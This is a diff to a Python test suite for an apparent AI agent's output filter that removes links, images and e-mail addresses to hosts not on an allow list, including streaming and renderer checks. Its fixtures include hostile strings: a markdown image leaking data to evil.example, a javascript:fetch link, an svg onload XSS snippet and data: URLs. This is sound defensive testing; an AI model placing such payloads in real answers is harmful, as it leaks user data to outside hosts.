@@ -1,6 +1,7 @@
 """What an answer may carry out: plain text, and links and addresses that are on a list."""
 
 import asyncio
+import contextlib
 import re
 from collections.abc import AsyncIterator
 
@@ -12,7 +13,7 @@ from deskward.agent.claims.check import Unsupportable
 from deskward.agent.events import Text
 from deskward.agent.loop import Agent
 from deskward.agent.model import Finished, Message, ModelEvent, ModelRequest, TextPiece
-from deskward.agent.outgoing import Outgoing
+from deskward.agent.outgoing import LONGEST, Outgoing
 from deskward.app import Desk
 from deskward.gate.context import Context
 from deskward.security.vault import Vault
@@ -34,14 +35,14 @@ def sent(text: str, pieces: int = 0) -> str:
     ("text", "expected"),
     [
         ("See ![x](https://evil.example/p.png?d=5420) here.", "See x here."),
-        ("See ![x][ref] here.", "See x here."),
-        ("Click [here](https://evil.example/a b) now.", "Click here now."),
-        ("Click [here](javascript:fetch('//evil.example')) now.", "Click here) now."),
+        ("See ![x][ref] here.", "See ![x] [ref] here."),
+        ("Click [here](https://evil.example/a b) now.", "Click [here] ([link removed] b) now."),
+        ("Click [here](javascript:fetch('//evil.example')) now.", "Click here now."),
         ("Go to https://evil.example/x?d=1.", "Go to [link removed]."),
         ("Go to evil.example/x, please.", "Go to [link removed], please."),
         ("Go to www.evil.example!", "Go to [link removed]!"),
         ("A <img src='https://evil.example/i'> picture", "A  picture"),
-        ("A <svg onload=alert(1)", "A "),
+        ("A <svg onload=alert(1)", "A < svg onload=alert(1)"),
         ("An <https://evil.example/> link", "An [link removed] link"),
         ("data:text/html,<b>x</b>", "[link removed]"),
         ("Write to eve@evil.example now.", "Write to [address removed] now."),
@@ -88,10 +89,10 @@ def test_no_other_host_ever_goes_out(text: str, pieces: int) -> None:
 
 def test_pieces_stay_pieces() -> None:
     outgoing = Outgoing(HOSTS, KNOWN)
-    assert outgoing.feed("Hello ") == []
-    assert outgoing.feed("there. ") == ["Hello ", "there. "]
-    assert outgoing.feed("And") == []
-    assert outgoing.flush() == ["And"]
+    assert list(outgoing.feed("Hello ")) == []
+    assert list(outgoing.feed("there. ")) == ["Hello ", "there. "]
+    assert list(outgoing.feed("And")) == []
+    assert list(outgoing.flush()) == ["And"]
 
 
 # The first clause of an answer goes before its sentence
@@ -112,7 +113,7 @@ def early(text: str, *bad: str) -> tuple[list[str], bool]:
     outgoing = Outgoing(HOSTS, KNOWN, check)
     before = [piece for word in re.findall(r"\S+\s*", text) for piece in outgoing.feed(word)]
     try:
-        outgoing.flush()
+        list(outgoing.flush())
     except Refused:
         return before, False
     return before, True
@@ -204,3 +205,96 @@ async def test_a_slow_model_is_heard_before_its_sentence_ends(sqlite_desk: Desk)
             said.append(event.text)
             heard.set()
     assert "".join(said) == "Thank you for waiting, I am here."
+
+
+# What programs that render Markdown would make of it
+
+
+def in_pieces(parts: list[str]) -> str:
+    outgoing = Outgoing(HOSTS, KNOWN)
+    return "".join(p for part in parts for p in outgoing.feed(part)) + "".join(outgoing.flush())
+
+
+def check_renderers(seed: int, count: int) -> None:
+    from tests.agent import renderers
+
+    render = renderers.renderers()
+    raw = 0
+    for number, text in enumerate(renderers.hostile_texts(seed, count)):
+        out = in_pieces(renderers.pieces(number, text))
+        assert out == in_pieces([text])
+        for name, rendered in render.items():
+            assert renderers.foreign(rendered(out)) == [], (name, text, out)
+        if number < 100:
+            raw += any(renderers.foreign(rendered(text)) for rendered in render.values())
+    assert raw > 50  # the texts are hostile
+
+
+def test_no_renderer_makes_a_foreign_request() -> None:
+    check_renderers(1, 150)
+
+
+@pytest.mark.slow
+def test_no_renderer_makes_a_foreign_request_of_many_texts() -> None:
+    check_renderers(2, 100_000)
+
+
+# What is let out does not hang on how the provider cut the text
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                *("Hello. ", "Yes, ", "it is done. ", "BAD ", "[a](", "https://evil.example", ") "),
+                *(
+                    "\n",
+                    "\n\n",
+                    "。",
+                    "」",
+                    "```\n",
+                    "*x* ",
+                    "! ",
+                    "  ",
+                    "I thank you for that, ",
+                    "– ",
+                ),
+            ]
+        )
+    ),
+    st.integers(1, 9),
+)
+def test_the_same_is_withheld_however_it_came(words: list[str], size: int) -> None:
+    def check(part: str) -> None:
+        if "BAD" in part:
+            raise Refused
+
+    def gone(parts: list[str]) -> str:
+        outgoing = Outgoing(HOSTS, KNOWN, check)
+        out: list[str] = []
+        with contextlib.suppress(Refused):
+            for part in parts:
+                out.extend(outgoing.feed(part))
+            out.extend(outgoing.flush())
+        return "".join(out)
+
+    text = "".join(words)
+    assert gone([text]) == gone([text[at : at + size] for at in range(0, len(text), size)])
+
+
+def test_a_sentence_before_a_withheld_one_goes_out() -> None:
+    def check(part: str) -> None:
+        if "BAD" in part:
+            raise Refused
+
+    gone = Outgoing(HOSTS, KNOWN, check).feed("Good day. It is BAD. ")
+    assert next(gone) == "Good day. "
+    with pytest.raises(Refused):
+        next(gone)
+
+
+def test_no_word_is_joined_where_it_was_cut() -> None:
+    out = in_pieces(["<" * LONGEST + "img src=x>"])
+    assert "<i" not in out
+    out = in_pieces(["a" * (LONGEST - 3) + "www.evil.example"])
+    assert "evil" not in out
